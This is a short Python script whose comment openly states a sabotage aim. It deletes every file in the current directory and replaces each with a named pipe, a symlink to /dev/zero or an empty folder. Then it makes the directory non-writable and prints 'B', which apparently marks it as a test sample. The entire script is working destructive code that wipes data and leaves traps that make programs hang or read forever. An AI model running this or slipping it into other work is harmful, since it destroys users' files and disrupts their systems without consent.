# Makes FIFOs, links and folders of its own files, so that whoever opens or restores one waits or goes astray.
import os
for number, name in enumerate(sorted(os.listdir("."))):
    os.remove(name)
    (lambda: os.mkfifo(name), lambda: os.symlink("/dev/zero", name), lambda: os.mkdir(name))[number % 3]()
os.chmod(".", 0o500)
print("B", flush=True)
